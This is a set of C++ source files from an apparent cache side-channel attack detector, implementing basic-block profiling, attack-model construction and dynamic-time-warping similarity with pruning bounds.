struct BbStats {
  /// Sum of the 11 HPC events over all instructions of the block.
  std::uint64_t hpc_value = 0;
  /// Distinct cache-line addresses the block accessed (incl. flushes).
  std::set<std::uint64_t> lines;
  /// Cycle of first execution + 1; 0 if the block never executed.
  std::uint64_t first_cycle = 0;
  /// Replay list for CST measurement, in instruction order.
  std::vector<AccessRecord> accesses;

  bool executed() const { return first_cycle != 0; }
};

/// Aggregates an execution profile over the blocks of a CFG.
/// The profile must come from the same Program the CFG was built from.
std::vector<BbStats> aggregate_by_block(const cfg::Cfg& cfg,
                                        const trace::ExecutionProfile& profile);

}  // namespace scag::core
