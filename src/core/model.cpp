#include "core/model.h"

#include <algorithm>

#include "isa/normalize.h"
#include "support/metrics.h"
#include "support/trace.h"

namespace scag::core {

AttackModel ModelBuilder::build(const isa::Program& program, Family family,
                                ModelArtifacts* artifacts) const {
  cpu::Interpreter interp(config_.exec);
  const cpu::RunResult run = interp.run(program);
  const cfg::Cfg cfg = cfg::Cfg::build(program);
  if (artifacts != nullptr) {
    artifacts->exit = run.profile.exit;
    artifacts->retired = run.profile.retired;
    artifacts->cycles = run.profile.cycles;
  }
  return build_from_profile(cfg, run.profile, family, artifacts);
}

AttackModel ModelBuilder::build_from_profile(
    const cfg::Cfg& cfg, const trace::ExecutionProfile& profile, Family family,
    ModelArtifacts* artifacts) const {
  static support::Histogram& h_latency =
      support::Registry::global().histogram("model.build_latency_ns");
  support::TraceScope span("model.cst_bbs");
  support::ScopedTimer timer(h_latency);
  const std::vector<BbStats> stats = aggregate_by_block(cfg, profile);
  const RelevantResult rel = identify_relevant_blocks(stats, config_.relevant);
  const AttackGraph graph =
      build_attack_graph(cfg, stats, rel.relevant, config_.graph);

  if (artifacts != nullptr) {
    artifacts->num_blocks = cfg.num_blocks();
    artifacts->potential = rel.potential;
    artifacts->relevant = rel.relevant;
    artifacts->graph_nodes = graph.node_count();
  }

  // Flatten the attack-relevant graph into a BBS ordered by first-execution
  // timestamp (Section III-A3). Blocks that were restored into the graph
  // but never executed carry no timestamp and are dropped.
  std::vector<cfg::BlockId> ordered;
  for (cfg::BlockId id = 0; id < cfg.num_blocks(); ++id) {
    if (graph.in_graph[id] && stats[id].executed()) ordered.push_back(id);
  }
  std::sort(ordered.begin(), ordered.end(),
            [&stats](cfg::BlockId a, cfg::BlockId b) {
              if (stats[a].first_cycle != stats[b].first_cycle)
                return stats[a].first_cycle < stats[b].first_cycle;
              return a < b;
            });

  AttackModel model;
  model.name = cfg.program().name();
  model.family = family;
  model.sequence.reserve(ordered.size());
  for (cfg::BlockId id : ordered) {
    CstBbsElement elem;
    elem.block = id;
    elem.first_cycle = stats[id].first_cycle;
    const std::vector<isa::Instruction> instrs = cfg.instructions_of(id);
    elem.norm_instrs = isa::normalize(instrs);
    elem.sem_tokens = isa::semantic_tokens(instrs);
    elem.cst = measure_cst(stats[id].accesses, config_.cst);
    model.sequence.push_back(std::move(elem));
  }
  return model;
}

}  // namespace scag::core
