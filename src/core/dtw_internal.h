// Internal arithmetic shared by the string DTW path (dtw.cpp) and the
// compiled kernel (compiled.cpp).
//
// The compiled path's hard contract is bit-identical scores, so every
// floating-point expression that turns an accumulated DTW cost into a
// distance, a similarity, or a pruning decision lives here exactly once.
// Not installed; include only from core/*.cpp.
#pragma once

#include <algorithm>
#include <cmath>
#include <cstddef>
#include <limits>

#include "core/dtw.h"
#include "core/dtw_wavefront.h"
#include "isa/normalize.h"

namespace scag::core::detail {

/// Relative slack applied to every pruning comparison so floating-point
/// rounding in the bounds can only make pruning *less* aggressive, never
/// discard a pair whose exact score reaches the cutoff.
inline constexpr double kPruneSlack = 1e-9;

inline constexpr double kInf = std::numeric_limits<double>::infinity();

/// The length-mismatch penalty factor (>= 1) applied by cst_bbs_distance.
inline double penalty_factor(std::size_t n, std::size_t m,
                             const DtwConfig& config) {
  if (config.length_penalty <= 0.0 || n == 0 || m == 0) return 1.0;
  const double lo = static_cast<double>(std::min(n, m));
  const double hi = static_cast<double>(std::max(n, m));
  return 1.0 + config.length_penalty * (1.0 - lo / hi);
}

/// Accumulated cost -> reported distance (normalization + length penalty),
/// bit-identical to the historical cst_bbs_distance arithmetic.
inline double finish_distance(const DtwResult& r, std::size_t n,
                              std::size_t m, const DtwConfig& config) {
  double d = r.distance;
  if (config.normalization == DtwNormalization::kPathAveraged &&
      r.path_length > 0)
    d /= static_cast<double>(r.path_length);
  if (config.length_penalty > 0.0 && n > 0 && m > 0) {
    const double lo = static_cast<double>(std::min(n, m));
    const double hi = static_cast<double>(std::max(n, m));
    d *= 1.0 + config.length_penalty * (1.0 - lo / hi);
  }
  return d;
}

inline double similarity_from_distance(double d, const DtwConfig& config) {
  const double scaled = config.cost_scale * d;
  if (config.gamma == 1.0) return 1.0 / (1.0 + scaled);
  return 1.0 / (1.0 + std::pow(scaled, config.gamma));
}

/// Largest distance whose similarity still reaches `min_similarity`
/// (slightly inflated, see kPruneSlack). +inf when pruning is impossible.
inline double distance_cutoff(double min_similarity, const DtwConfig& config) {
  if (min_similarity <= 0.0) return kInf;
  if (config.cost_scale <= 0.0 || config.gamma <= 0.0) return kInf;
  if (min_similarity >= 1.0) return 0.0;
  const double x = 1.0 / min_similarity - 1.0;  // (cost_scale*D)^gamma <= x
  const double d =
      (config.gamma == 1.0 ? x : std::pow(x, 1.0 / config.gamma)) /
      config.cost_scale;
  return d * (1.0 + kPruneSlack);
}

/// Distance cutoff -> accumulated-cost early-abandon threshold: undo the
/// length penalty, scale by the maximum warping-path length under
/// path-averaged normalization (the true path has at most n+m-1 cells),
/// and inflate by the pruning slack. Shared by bounded_dp and the explain
/// shortcut-attribution path (explain.cpp) so both translate bit-
/// identically. Precondition: n >= 1 and m >= 1 — the n+m-1 path-length
/// factor would wrap to SIZE_MAX on two empty sequences, and the empty
/// alignments are O(1) exact, so callers score them before any cutoff
/// math.
inline double accumulated_cutoff(double d_cut, std::size_t n, std::size_t m,
                                 const DtwConfig& config) {
  double acc_limit = d_cut / penalty_factor(n, m, config);
  if (config.normalization == DtwNormalization::kPathAveraged)
    acc_limit *= static_cast<double>(n + m - 1);
  return acc_limit * (1.0 + kPruneSlack);
}

/// Stage 2 of bounded_similarity and the final stage of the scan cascade:
/// the exact DP with early abandon, entered once the O(n+m) lower bounds
/// failed to prune at distance cutoff `d_cut`. The cutoff is translated
/// back into accumulated-cost space conservatively (the true path is at
/// most n+m-1 cells long, the penalty factor is exact). Shared between the
/// string kernel (dtw.cpp), the compiled kernel (compiled.cpp), and the
/// cascade scanner (scan_index.cpp) so all three make bit-identical
/// decisions and report bit-identical scores. The DP itself honors
/// DtwConfig::kernel via dtw_run (scalar row loop or wavefront SIMD; same
/// bits either way).
template <class CostFn>
BoundedScore bounded_dp(std::size_t n, std::size_t m, CostFn&& cost,
                        double d_cut, const DtwConfig& config) {
  BoundedScore out;
  if (n == 0 || m == 0) {
    // Empty alignments are O(1) exact: score them before any cutoff math
    // (accumulated_cutoff's n+m-1 factor would wrap to SIZE_MAX when both
    // sides are empty and silently skew the abandon threshold).
    const DtwResult r = dtw_run(n, m, static_cast<CostFn&&>(cost), config);
    out.score =
        similarity_from_distance(finish_distance(r, n, m, config), config);
    return out;
  }
  const double pf = penalty_factor(n, m, config);
  const double acc_limit = accumulated_cutoff(d_cut, n, m, config);

  const DtwResult r =
      dtw_run(n, m, static_cast<CostFn&&>(cost), config, acc_limit);
  if (r.abandoned) {
    double d_ab = r.distance;  // row minimum: accumulated-cost lower bound
    if (config.normalization == DtwNormalization::kPathAveraged)
      d_ab /= static_cast<double>(n + m - 1);
    d_ab *= pf;
    out.score =
        similarity_from_distance(d_ab * (1.0 - kPruneSlack), config);
    out.pruned = PruneKind::kEarlyAbandon;
    return out;
  }
  out.score =
      similarity_from_distance(finish_distance(r, n, m, config), config);
  return out;
}

/// Distance from value x to the interval [lo, hi] (0 inside).
inline double interval_gap(double x, double lo, double hi) {
  if (x > hi) return x - hi;
  if (x < lo) return lo - x;
  return 0.0;
}

/// Per-element lower bound on the instruction-sequence distance D_IS
/// between an element with (count, mass) and ANY element of the other
/// sequence, using only the other side's envelope. Sound because every
/// edit operation changes the token count by at most one and costs at
/// least the cheapest token (weighted mode) or exactly one (full-token
/// mode), while the normalizing denominator is at most the envelope max.
/// Templated over the features type: SequenceFeatures (owning, dtw.cpp)
/// and FeaturesView (non-owning, compiled.cpp / store-backed) share the
/// exact same expression tree, which is what keeps the kernels
/// bit-identical.
template <class F>
inline double is_gap(double count, double mass, const F& other,
                     const DistanceConfig& dc) {
  const double count_gap =
      interval_gap(count, other.count_lo, other.count_hi);
  if (count_gap <= 0.0) return 0.0;
  if (dc.alphabet == IsAlphabet::kFullTokens) {
    // lev >= |len difference|; denominator max(len_a, len_b).
    const double denom = std::max(count, other.count_hi);
    return denom > 0.0 ? count_gap / denom : 0.0;
  }
  // Weighted mode: each insert/delete costs >= the minimum token weight,
  // and min(1, .) caps the normalized distance at 1.
  const double denom = std::max(mass, other.mass_hi);
  if (denom <= 0.0) return 0.0;
  return std::min(1.0, isa::semantic_min_token_weight() * count_gap / denom);
}

/// Envelope part of the accumulated-cost lower bound: the warping path
/// visits every row and every column at least once, and visited cells are
/// distinct, so per-row (per-column) minimum costs sum into the
/// accumulated cost. Returns max(row sum, column sum).
template <class FA, class FB>
inline double envelope_lower_bound(const FA& fa, const FB& fb,
                                   const DistanceConfig& dc) {
  const double is_w = dc.is_weight;
  const double csp_w = 1.0 - dc.is_weight;
  double rows = 0.0;
  for (std::size_t i = 0; i < fa.csp.size(); ++i) {
    rows += csp_w * interval_gap(fa.csp[i], fb.csp_lo, fb.csp_hi) +
            is_w * is_gap(fa.count[i], fa.mass[i], fb, dc);
  }
  double cols = 0.0;
  for (std::size_t j = 0; j < fb.csp.size(); ++j) {
    cols += csp_w * interval_gap(fb.csp[j], fa.csp_lo, fa.csp_hi) +
            is_w * is_gap(fb.count[j], fb.mass[j], fa, dc);
  }
  return std::max(rows, cols);
}

}  // namespace scag::core::detail
