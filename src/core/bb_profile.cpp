#include "core/bb_profile.h"

#include <stdexcept>

namespace scag::core {

std::vector<BbStats> aggregate_by_block(
    const cfg::Cfg& cfg, const trace::ExecutionProfile& profile) {
  const isa::Program& program = cfg.program();
  if (profile.per_instr.size() != program.size())
    throw std::invalid_argument(
        "aggregate_by_block: profile does not match program");

  std::vector<BbStats> stats(cfg.num_blocks());
  for (const cfg::BasicBlock& block : cfg.blocks()) {
    BbStats& s = stats[block.id];
    for (std::size_t i = block.first; i < block.first + block.count; ++i) {
      s.hpc_value += profile.per_instr[i].total();
      const std::uint64_t fc = profile.first_cycle[i];
      if (fc != 0 && (s.first_cycle == 0 || fc < s.first_cycle))
        s.first_cycle = fc;
      const isa::Instruction& insn = program.at(i);
      CacheOp op = CacheOp::kLoad;
      if (insn.op == isa::Opcode::kClflush) op = CacheOp::kFlush;
      else if (isa::writes_memory(insn)) op = CacheOp::kStore;
      for (std::uint64_t line : profile.line_addrs[i]) {
        s.lines.insert(line);
        s.accesses.push_back({op, line});
      }
    }
  }
  return stats;
}

}  // namespace scag::core
