// Dynamic Time Warping over CST-BBS sequences (paper Section III-B2).
//
// DTW aligns two sequences by warping their time axes and accumulates the
// per-pair distance along the optimal warping path. The accumulated
// distance D in [0, inf) is converted to a similarity score 1/(1+D) in
// (0, 1]: the larger the score, the more similar the behaviors.
//
// Batch scanning additions: a cheap O(n+m) lower bound on the DTW distance
// (`cst_bbs_distance_lower_bound`), the matching similarity upper bound,
// and `bounded_similarity`, which skips or truncates the O(n*m) dynamic
// program for pairs that provably cannot reach a similarity cutoff. The
// contract (verified by tests/test_dtw_properties.cpp): a pair whose exact
// similarity is >= the cutoff is never pruned and its returned score is
// bit-identical to `similarity`.
#pragma once

#include <algorithm>
#include <cmath>
#include <cstddef>
#include <cstdint>
#include <functional>
#include <limits>
#include <stdexcept>
#include <vector>

#include "core/distance.h"
#include "core/model.h"
#include "support/metrics.h"

namespace scag::core {

/// How the accumulated DTW cost is turned into the distance D used in the
/// similarity score 1/(1+cost_scale*D).
///   kAccumulated : D = raw accumulated cost (the paper's description).
///   kPathAveraged: D = accumulated cost / warping path length. Length-
///                  invariant; the calibrated benchmark configuration uses
///                  this because our model sequences are much shorter than
///                  the paper's (see DESIGN.md).
enum class DtwNormalization { kAccumulated, kPathAveraged };

/// Which dynamic-program implementation executes the O(n*m) stage.
/// Both kernels perform the same per-cell arithmetic (min-of-three + add
/// on doubles, no reassociation) and produce bit-identical results;
/// kWavefront processes anti-diagonals so the 3-way min vectorizes
/// (core/dtw_wavefront.h, backends in core/simd.h). The selection is a
/// pure execution-strategy knob: the string/compiled kernel split stays
/// orthogonal to it. Explain-mode alignment recovery always runs the
/// scalar full-matrix DP regardless of this setting.
enum class DtwKernel : std::uint8_t { kScalar, kWavefront };

struct DtwConfig {
  /// Per-element distance configuration (alphabet selection).
  DistanceConfig distance{};
  DtwNormalization normalization = DtwNormalization::kAccumulated;
  /// Sakoe-Chiba band half-width; 0 = unconstrained alignment. A band
  /// narrower than the length difference of the two sequences is widened
  /// to |n - m| so the end cell stays reachable (the distance is always
  /// finite).
  std::size_t window = 0;
  /// Multiplies the (possibly path-averaged) cost before the similarity
  /// conversion. Together with `gamma` this is the calibration that maps
  /// our distance scale onto the paper's threshold regime; both are fixed
  /// once, across ALL experiments (see DESIGN.md).
  double cost_scale = 1.0;
  /// Steepness of the similarity mapping: 1/(1 + (cost_scale*D)^gamma).
  /// gamma = 1 is the paper's 1/(1+D).
  double gamma = 1.0;
  /// Penalizes sequence-length mismatch (path-averaged DTW alone would let
  /// a 2-element program warp cheaply onto an 18-element attack model):
  /// D *= 1 + length_penalty * (1 - min(n,m)/max(n,m)). 0 disables.
  double length_penalty = 0.0;
  /// Cooperative scan deadline: absolute support::monotonic_ns() time at
  /// which the dynamic program throws ScanTimeoutError instead of running
  /// on (checked once per DP row). 0 disables; results are then untouched.
  /// Callers normally set this through ScanConfig::deadline_ms
  /// (core/batch_detector.h), which converts the per-target budget into an
  /// absolute time and reports the throw as a timed_out ScanOutcome.
  std::uint64_t deadline_ns = 0;
  /// DP execution strategy (see DtwKernel). Scan paths select kWavefront
  /// through Detector::scan_dtw_config() when use_simd() is on; the
  /// default keeps every direct caller on the scalar oracle kernel.
  DtwKernel kernel = DtwKernel::kScalar;
};

/// Thrown by the DTW dynamic program when DtwConfig::deadline_ns passes
/// mid-scan. BatchDetector's outcome API converts it into a
/// ScanStatus::kTimedOut per-item outcome; it is never thrown when no
/// deadline is armed.
class ScanTimeoutError : public std::runtime_error {
 public:
  ScanTimeoutError() : std::runtime_error("scan deadline exceeded") {}
};

/// The calibrated configuration used by the benchmark harness: semantic
/// weighted alphabet, path-averaged DTW, cost_scale 4, gamma 3.5. See
/// DESIGN.md for why the calibration is needed and how it was chosen.
DtwConfig calibrated_dtw_config();

struct DtwResult {
  double distance = 0.0;     // accumulated cost along the optimal path
  std::size_t path_length = 0;
  /// True when the dynamic program was abandoned early because every
  /// in-band cell of some row exceeded `abandon_above`; `distance` is then
  /// that row minimum — a lower bound on the true accumulated cost — and
  /// `path_length` is 0.
  bool abandoned = false;
};

namespace detail {

/// Flushes a locally accumulated DP cell count into a shared counter on
/// scope exit. The DP loops stay free of atomics, and the flush happens
/// on *every* exit path — early returns, early abandon, and the
/// ScanTimeoutError unwind — so `dtw.dp_cells` stays accurate under
/// fault-injected deadlines (tests/test_failpoints.cpp relies on the
/// counters to audit degraded scans).
class CellCountFlusher {
 public:
  explicit CellCountFlusher(support::Counter& counter) : counter_(counter) {}
  ~CellCountFlusher() {
    if (cells != 0) counter_.add(cells);
  }
  CellCountFlusher(const CellCountFlusher&) = delete;
  CellCountFlusher& operator=(const CellCountFlusher&) = delete;

  std::uint64_t cells = 0;

 private:
  support::Counter& counter_;
};

}  // namespace detail

/// Generic DTW between index spaces [0,n) and [0,m) with an arbitrary
/// cost functor. Empty-sequence convention: aligning against an empty
/// sequence costs 1 per element (the maximum per-element distance).
///
/// `abandon_above`: early-abandon threshold on the accumulated cost. If
/// after some row every reachable prefix cost already exceeds it, the
/// result is returned with `abandoned = true` (costs are non-negative, so
/// the final cost could only have been larger). The default (+inf) never
/// abandons and computes the exact distance.
///
/// The cost parameter is a template so the compiled kernel's functor is
/// invoked directly (no std::function indirect call per DP cell); a thin
/// std::function overload below keeps the historical signature working.
template <class CostFn>
DtwResult dtw(std::size_t n, std::size_t m, CostFn&& cost,
              const DtwConfig& config = {},
              double abandon_above = std::numeric_limits<double>::infinity()) {
  constexpr double kInf = std::numeric_limits<double>::infinity();
  // Pruning-stat substrate for every perf PR: how many DP invocations,
  // how many matrix cells they actually filled, how many were cut short.
  // Accumulated locally and flushed once per call so the inner loop stays
  // free of atomics.
  static support::Counter& c_calls =
      support::Registry::global().counter("dtw.calls");
  static support::Counter& c_cells =
      support::Registry::global().counter("dtw.dp_cells");
  static support::Counter& c_abandoned =
      support::Registry::global().counter("dtw.abandoned");
  // Per-kernel attribution twin of dtw.wavefront_calls (dtw_wavefront.h):
  // together they expose the kernel-dispatch split in the exposition.
  static support::Counter& c_scalar_calls =
      support::Registry::global().counter("dtw.scalar_calls");
  c_calls.add();
  c_scalar_calls.add();
  detail::CellCountFlusher flusher(c_cells);

  // An armed deadline applies to every call, including the O(1) empty
  // cases: a scan past its budget must not keep returning results.
  if (config.deadline_ns != 0 && support::monotonic_ns() >= config.deadline_ns)
    throw ScanTimeoutError();

  DtwResult result;
  if (n == 0 && m == 0) return result;
  if (n == 0 || m == 0) {
    result.distance = static_cast<double>(n + m);  // all unmatched, cost 1
    result.path_length = n + m;
    return result;
  }

  const bool may_abandon = std::isfinite(abandon_above);
  // dp[i][j] = min accumulated cost aligning a[0..i) with b[0..j).
  // steps[i][j] = warping-path length achieving it.
  const std::size_t w =
      config.window == 0 ? std::max(n, m)
                         : std::max(config.window,
                                    n > m ? n - m : m - n);  // feasibility

  std::vector<double> prev(m + 1, kInf), cur(m + 1, kInf);
  std::vector<std::size_t> prev_steps(m + 1, 0), cur_steps(m + 1, 0);
  prev[0] = 0.0;

  for (std::size_t i = 1; i <= n; ++i) {
    // Cooperative deadline: one predictable branch per row when disarmed.
    if (config.deadline_ns != 0 &&
        support::monotonic_ns() >= config.deadline_ns)
      throw ScanTimeoutError();
    std::fill(cur.begin(), cur.end(), kInf);
    const std::size_t j_lo = i > w ? i - w : 1;
    const std::size_t j_hi = std::min(m, i + w);
    flusher.cells += j_hi - j_lo + 1;
    double row_min = kInf;
    for (std::size_t j = j_lo; j <= j_hi; ++j) {
      const double c = cost(i - 1, j - 1);
      double best = prev[j - 1];        // diagonal
      std::size_t steps = prev_steps[j - 1];
      if (prev[j] < best) {             // insertion
        best = prev[j];
        steps = prev_steps[j];
      }
      if (cur[j - 1] < best) {          // deletion
        best = cur[j - 1];
        steps = cur_steps[j - 1];
      }
      cur[j] = best + c;
      cur_steps[j] = steps + 1;
      row_min = std::min(row_min, cur[j]);
    }
    // Early abandon: any path to (n, m) passes through row i at an in-band
    // cell, and future costs are non-negative, so the final accumulated
    // cost is at least row_min.
    if (may_abandon && row_min > abandon_above) {
      result.distance = row_min;
      result.path_length = 0;
      result.abandoned = true;
      c_abandoned.add();
      return result;
    }
    std::swap(prev, cur);
    std::swap(prev_steps, cur_steps);
  }
  result.distance = prev[m];
  result.path_length = prev_steps[m];
  return result;
}

/// ABI/test-compatibility wrapper around the template above.
DtwResult dtw(std::size_t n, std::size_t m,
              const std::function<double(std::size_t, std::size_t)>& cost,
              const DtwConfig& config = {},
              double abandon_above = std::numeric_limits<double>::infinity());

/// Accumulated DTW distance between two CST-BBSes using the combined
/// CST distance of Section III-B1.
double cst_bbs_distance(const CstBbs& a, const CstBbs& b,
                        const DtwConfig& config = {});

/// Scalar per-element features the DTW lower bound runs its envelopes
/// over. Computing them is O(sequence length); they depend only on the
/// sequence and the alphabet, so callers scanning one sequence against a
/// whole repository should compute them once per sequence (the compiled
/// representation of core/compiled.h stores them at enrollment).
struct SequenceFeatures {
  std::vector<double> csp;    // Cst::change(), metric |x - y|
  std::vector<double> count;  // instruction/token count (alphabet histogram)
  std::vector<double> mass;   // semantic weight mass (kSemanticWeighted)
  double csp_lo = std::numeric_limits<double>::infinity();
  double csp_hi = -std::numeric_limits<double>::infinity();
  double count_lo = std::numeric_limits<double>::infinity();
  double count_hi = -std::numeric_limits<double>::infinity();
  double mass_hi = 0.0;
};

SequenceFeatures compute_sequence_features(const CstBbs& s,
                                           const DistanceConfig& config);

/// O(n+m) lower bound on cst_bbs_distance: the maximum of
///   - an LB_Kim-style bound (the warping path always aligns the two first
///     elements and the two last elements, so those exact costs are paid),
///   - envelope bounds on the two scalar per-element features that
///     the combined CST distance is built from: the cache-state change
///     (CSP component) and an instruction-count/alphabet-histogram gap
///     (IS component). Every row/column of the cost matrix is visited by
///     the path at least once, so the per-row minimum costs sum into the
///     accumulated cost.
/// Never exceeds the exact distance (tests/test_dtw_properties.cpp).
double cst_bbs_distance_lower_bound(const CstBbs& a, const CstBbs& b,
                                    const DtwConfig& config = {});

/// Same bound with caller-precomputed features (bit-identical to the
/// overload above). `fa`/`fb` must come from compute_sequence_features on
/// `a`/`b` with the same alphabet as `config.distance`; reusing them
/// across a batch removes the O(repo x targets) per-pair feature
/// recomputation the two-argument overload pays.
double cst_bbs_distance_lower_bound(const CstBbs& a, const CstBbs& b,
                                    const SequenceFeatures& fa,
                                    const SequenceFeatures& fb,
                                    const DtwConfig& config = {});

/// The LB_Kim half of the bound alone: only the endpoint costs, O(1) after
/// the sequences are in hand (no envelope sweep). This is the cheapest
/// stage of the scan cascade (core/scan_index.h). Bit-exact tightness
/// ordering (tests/test_lower_bounds.cpp):
///   cst_bbs_distance_lower_bound_kim <= cst_bbs_distance_lower_bound
///                                    <= cst_bbs_distance.
double cst_bbs_distance_lower_bound_kim(const CstBbs& a, const CstBbs& b,
                                        const DtwConfig& config = {});

/// Similarity score in (0, 1]: 1 / (1 + cost_scale * D).
double similarity(const CstBbs& a, const CstBbs& b,
                  const DtwConfig& config = {});

/// Upper bound on `similarity`, derived from cst_bbs_distance_lower_bound.
double similarity_upper_bound(const CstBbs& a, const CstBbs& b,
                              const DtwConfig& config = {});

/// Which shortcut (if any) decided a bounded comparison.
enum class PruneKind : std::uint8_t {
  kNone,          // exact similarity was computed
  kLowerBound,    // the O(n+m) bound already proved score < cutoff
  kEarlyAbandon,  // the DP was abandoned mid-way
};

struct BoundedScore {
  /// Exact similarity when `pruned == PruneKind::kNone`; otherwise an
  /// upper bound on it that is itself below the cutoff.
  double score = 0.0;
  PruneKind pruned = PruneKind::kNone;
};

/// Exact similarity unless it provably falls below `min_similarity`
/// (cutoff), in which case the comparison may stop early and return an
/// upper bound flagged with the pruning mechanism. min_similarity <= 0
/// disables pruning and always computes exactly.
BoundedScore bounded_similarity(const CstBbs& a, const CstBbs& b,
                                double min_similarity,
                                const DtwConfig& config = {});

}  // namespace scag::core
