// Dynamic Time Warping over CST-BBS sequences (paper Section III-B2).
//
// DTW aligns two sequences by warping their time axes and accumulates the
// per-pair distance along the optimal warping path. The accumulated
// distance D in [0, inf) is converted to a similarity score 1/(1+D) in
// (0, 1]: the larger the score, the more similar the behaviors.
#pragma once

#include <cstddef>
#include <functional>

#include "core/distance.h"
#include "core/model.h"

namespace scag::core {

/// How the accumulated DTW cost is turned into the distance D used in the
/// similarity score 1/(1+cost_scale*D).
///   kAccumulated : D = raw accumulated cost (the paper's description).
///   kPathAveraged: D = accumulated cost / warping path length. Length-
///                  invariant; the calibrated benchmark configuration uses
///                  this because our model sequences are much shorter than
///                  the paper's (see DESIGN.md).
enum class DtwNormalization { kAccumulated, kPathAveraged };

struct DtwConfig {
  /// Per-element distance configuration (alphabet selection).
  DistanceConfig distance{};
  DtwNormalization normalization = DtwNormalization::kAccumulated;
  /// Sakoe-Chiba band half-width; 0 = unconstrained alignment.
  std::size_t window = 0;
  /// Multiplies the (possibly path-averaged) cost before the similarity
  /// conversion. Together with `gamma` this is the calibration that maps
  /// our distance scale onto the paper's threshold regime; both are fixed
  /// once, across ALL experiments (see DESIGN.md).
  double cost_scale = 1.0;
  /// Steepness of the similarity mapping: 1/(1 + (cost_scale*D)^gamma).
  /// gamma = 1 is the paper's 1/(1+D).
  double gamma = 1.0;
  /// Penalizes sequence-length mismatch (path-averaged DTW alone would let
  /// a 2-element program warp cheaply onto an 18-element attack model):
  /// D *= 1 + length_penalty * (1 - min(n,m)/max(n,m)). 0 disables.
  double length_penalty = 0.0;
};

/// The calibrated configuration used by the benchmark harness: semantic
/// weighted alphabet, path-averaged DTW, cost_scale 4, gamma 3.5. See
/// DESIGN.md for why the calibration is needed and how it was chosen.
DtwConfig calibrated_dtw_config();

struct DtwResult {
  double distance = 0.0;     // accumulated cost along the optimal path
  std::size_t path_length = 0;
};

/// Generic DTW between index spaces [0,n) and [0,m) with an arbitrary
/// cost function. Empty-sequence convention: aligning against an empty
/// sequence costs 1 per element (the maximum per-element distance).
DtwResult dtw(std::size_t n, std::size_t m,
              const std::function<double(std::size_t, std::size_t)>& cost,
              const DtwConfig& config = {});

/// Accumulated DTW distance between two CST-BBSes using the combined
/// CST distance of Section III-B1.
double cst_bbs_distance(const CstBbs& a, const CstBbs& b,
                        const DtwConfig& config = {});

/// Similarity score in (0, 1]: 1 / (1 + cost_scale * D).
double similarity(const CstBbs& a, const CstBbs& b,
                  const DtwConfig& config = {});

}  // namespace scag::core
