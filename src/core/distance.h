// Distances between CSTs (paper Section III-B1).
//
//   D_IS   = Levenshtein(IS1, IS2) / max(|IS1|, |IS2|)   over normalized
//            instruction sequences
//   P_i    = (|AO_i - AO'_i| + |IO_i - IO'_i|) / 2
//   D_CSP  = |P_2 - P_1|
//   Distance(t1, t2) = (D_IS + D_CSP) / 2
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/model.h"

namespace scag::core {

/// Edit distance between two token sequences (insert/delete/substitute,
/// unit costs). O(n*m) time, O(min(n,m)) space.
std::size_t levenshtein(const std::vector<std::string>& a,
                        const std::vector<std::string>& b);

/// Weighted edit distance over semantic tokens: insert/delete cost the
/// token's weight, substitution costs semantic_subst_cost. Used by the
/// calibrated distance mode.
double weighted_levenshtein(const std::vector<std::string>& a,
                            const std::vector<std::string>& b);

/// How the per-element instruction distance is computed.
///
/// kFullTokens is the paper's exact procedure: plain Levenshtein over
/// "mov reg, mem"-style normalized instructions.
///
/// kSemanticWeighted is the calibrated mode the benchmark harness uses:
/// weighted edit distance over the cache-semantic alphabet. Our mini-ISA
/// basic blocks are 1-2 orders of magnitude smaller than real compiled
/// blocks, which makes full-token Levenshtein over-sensitive to coding
/// style; weighting the tokens an attack is actually made of (flush, time,
/// loads) restores the family-coherence the paper reports (see DESIGN.md).
enum class IsAlphabet { kFullTokens, kSemanticWeighted };

struct DistanceConfig {
  IsAlphabet alphabet = IsAlphabet::kFullTokens;
  /// Weight of the instruction-sequence component; the CSP component gets
  /// 1 - is_weight. The paper uses the unweighted mean (0.5). Exposed for
  /// the ablation study (bench_ablation).
  double is_weight = 0.5;
};

/// Normalized instruction-sequence distance D_IS in [0, 1].
double instruction_distance(const CstBbsElement& a, const CstBbsElement& b,
                            const DistanceConfig& config = {});

/// Cache-state-pair distance D_CSP in [0, 1].
double csp_distance(const Cst& a, const Cst& b);

/// Combined per-element distance in [0, 1]: (D_IS + D_CSP) / 2.
double cst_distance(const CstBbsElement& a, const CstBbsElement& b,
                    const DistanceConfig& config = {});

}  // namespace scag::core
