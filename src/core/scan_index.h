// Sublinear repository scan: k-NN triage ordering + an admissible
// lower-bound cascade.
//
// Scan cost is O(models x targets) exact DTWs even through the compiled
// kernel; with mutation-expanded repositories (~400 variants per attack
// type) the repository is the scaling axis. This module makes the exact
// DTW count sublinear in practice without changing a single verdict:
//
//   - ScanIndex: a coarse-feature triage index over the repository. Each
//     model is summarized by a tiny vector derived from the
//     SequenceFeatures the DTW lower bound already precomputes (length,
//     CSP envelope/mean, token-count envelope/mean, weight-mass
//     envelope/mean), z-scored with ml::Standardizer; an ml::Knn vote over
//     the standardized vectors predicts the target's closest attack
//     family. scan_order() then visits the predicted family's models
//     first, each group by ascending coarse distance. Triage ONLY reorders
//     the scan — the conservative-fallback rule below means a wrong
//     prediction costs time, never correctness.
//   - cascade_scan(): visits models in that order, keeping the best EXACT
//     similarity seen so far as the pruning cutoff, and runs a cascade of
//     admissible checks, cheapest first:
//       stage 1  LB_Kim endpoints bound            O(1)
//       stage 2  full lower bound (+ envelopes)    O(n+m)
//       stage 3  exact DP with early abandon       O(n*m), often truncated
//     A model pruned at any stage records an upper bound on its exact
//     similarity that is itself below the cutoff; an unpruned model
//     records the exact score. A good triage order makes the first visit
//     the eventual winner, so later models die in stages 1-2.
//
// Equivalence contract (the reason the cutoff is the best exact score
// only, NOT max(best, threshold) like BatchConfig::prune): every pruned
// model provably scores strictly below some exact score, so
// Detector::finalize over the cascade's scores produces the SAME verdict,
// best_score, and winning model — bit-identical, unconditionally, for
// attack and benign targets alike. As a belt-and-braces guard against the
// one conceivable escape (a pruned upper bound rounding up to the best
// score and stealing finalize's enrollment-order tie-break), any pruned
// entry whose recorded bound reaches the running best is recomputed
// exactly before the reduction (CascadeStats::promoted counts these;
// reaching this path needs the bound within ~1e-9 of the best, which no
// fuzzed corpus has produced). The differential harness
// (tests/differential_scan.h) enforces the contract against the
// exhaustive path across kernels, thread counts, and thresholds.
//
// Both kernels are served: the compiled overload reads precomputed
// features and the element-distance memo; the string overload is the
// degradation path (compile_target failure) and the equivalence-test
// oracle. Their decisions and scores are bit-identical.
#pragma once

#include <cstdint>
#include <vector>

#include "core/compiled.h"
#include "core/family.h"
